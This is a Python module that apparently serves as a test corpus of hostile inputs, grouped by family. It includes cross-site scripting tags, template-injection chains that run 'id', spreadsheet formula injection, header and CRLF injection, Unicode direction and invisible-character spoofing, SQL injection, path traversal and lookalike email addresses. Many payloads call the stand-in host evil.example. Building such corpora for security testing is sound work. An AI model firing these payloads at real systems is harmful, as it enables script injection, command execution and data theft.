"""Hostile words, by family."""

from __future__ import annotations

import itertools

# What a payload does if it runs: each of these is looked for.
DO = "window.pwned=1;alert(1);fetch('//evil.example/x')"
TAGS = (
    "<script>{}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=\"{}\">",
    "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>",
    "<body onload=\"{}\">", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe src=\"javascript:{}\">",
    "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\">", "<input autofocus onfocus=\"{}\">",
    "<marquee onstart=\"{}\">", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<form action=//evil.example/><button>Approve</button></form>", "<a href=\"javascript:{}\">x</a>",
    "<math><mtext><style><img src=x onerror=\"{}\">", "<img src=//evil.example/pixel.gif>",
    "<button hx-get=//evil.example/x hx-trigger=load>x</button>", "<div hx-on:load=\"{}\">x</div>",
    "<template><script>{}</script></template>", "<audio src=//evil.example/x onerror=\"{}\">",
    "<xmp><img src=x onerror=\"{}\"></xmp>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
)  # fmt: skip
BREAKS = (
    "{}", "\">{}", "'>{}", "`>{}", "</textarea>{}", "</title>{}", "-->{}", "</script>{}", "]]>{}", "</p></div>{}",
    "\\\">{}", "&lt;b&gt;{}",
)  # fmt: skip
ATTRIBUTES = tuple(
    f"{quote}{space}{event}={quote}{DO}{quote} x={quote}"
    for quote in ("\"", "'", "`")
    for space in (" ", "/", "\t", "\n")
    for event in ("onmouseover", "onfocus", "onerror", "onload", "onanimationstart")
)  # fmt: skip
TEMPLATES = tuple(
    begin + inside + end
    for begin, end in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"))
    for inside in (
        " 7*7 ", " config ", " me.password_hash ", " self.__init__.__globals__ ", " ''.__class__.__mro__ ",
        " request.environ ", " cycler.__init__.__globals__.os.popen('id').read() ", " settings.secret_key ",
    )
)  # fmt: skip
FORMULAS = tuple(
    sign + rest
    for sign in ("=", "+", "-", "@", "\t=", "\r=", " =", "\"=", "'=", "＝", "﹢", "\n=")
    for rest in ("cmd|'/C calc'!A0", "HYPERLINK(\"//evil.example\",\"x\")", "1+1", "SUM(A1:A9)*cmd",
                 "IMPORTXML(\"//evil.example\")")
)  # fmt: skip
HEADERS = tuple(
    f"x{end}{line}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e", "嘊嘍", "\r\n\t")
    for line in ("Bcc: all@evil.example", "Set-Cookie: a=b", "Location: //evil.example",
                 "\r\n<script>alert(1)</script>")
)  # fmt: skip
TURNING = tuple(
    f"{sign}{words}"
    for sign in (
        "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u200e", "\u061c", "\u200b",
        "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u115f", "\u034f",
    )
    for words in ("gnp.exe", "Approved by Ana", "", "x\u202c y")
)  # fmt: skip
ODD = (
    "\0", "a\0b", "\0" * 50, "\x01\x02\x07\x08\x1b[31mred\x1b[0m", "\x7f", "\ufffe\uffff", "\U0001fffe", "\ud800",
    "👩‍👩‍👧‍👦", "🏳️‍🌈🇩🇪", "😀" * 200, "Z" + "\u0301" * 30, "İstanbul", "ß ﬁ Ω≈ç√", "ﷺ" * 30, "𝕳𝖊𝖑𝖑𝖔", "…", "\u3000",
    " ", "\t\n", "-", "0", "None", "null", "undefined", "NaN", "true", "[]", "{}", "1e999", "9" * 400, "-1",
    "'; DROP TABLE people; --", "\" OR 1=1 --", "%' OR '1'='1", "\\", "\\'", "%s%n%x", "{0.__class__}", "%(password)s",
    "../../../etc/passwd", "..\\..\\", "/decide/x", "file:///etc/passwd", "javascript:" + DO, "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "https://evil.example/?q=1",
    "long " * 300, "W" * 2000, "x" * 100_000,
)  # fmt: skip
ADDRESSES = (
    "аna@example.com", "ana@exаmple.com", "ana@еxample.com", "ana@example.com\u200b", "ana\u00ad@example.com",
    "ANA@EXAMPLE.COM", "ana@example.com\0", "ana@example.com\r\nBcc: x@evil.example", "ana@example.com,x@evil.example",
    "\"ana\"@example.com", "ana+x@example.com", "ana@[127.0.0.1]", "<ana@example.com>", "ana@example.com (x)",
    "ana@bücher.example", "ａｎａ@example.com", "ana@xn--exmple-cua.com", "ana@@example.com", "@", "ana@example",
    "ana@example.com;x@evil.example", "=?utf-8?q?ana?=@example.com", "ana@exam\u2024ple.com", "ana@example。com",
    "a" * 300 + "@example.com",
)  # fmt: skip


def corpus() -> list[str]:
    """All of them, each once, those of one family side by side."""
    html = [
        broken.replace("{}", tag.replace("{}", DO)) for tag, broken in itertools.product(TAGS, BREAKS)
    ]  # fmt: skip
    return list(dict.fromkeys([*html, *ATTRIBUTES, *TEMPLATES, *FORMULAS, *HEADERS, *TURNING, *ODD, *ADDRESSES]))
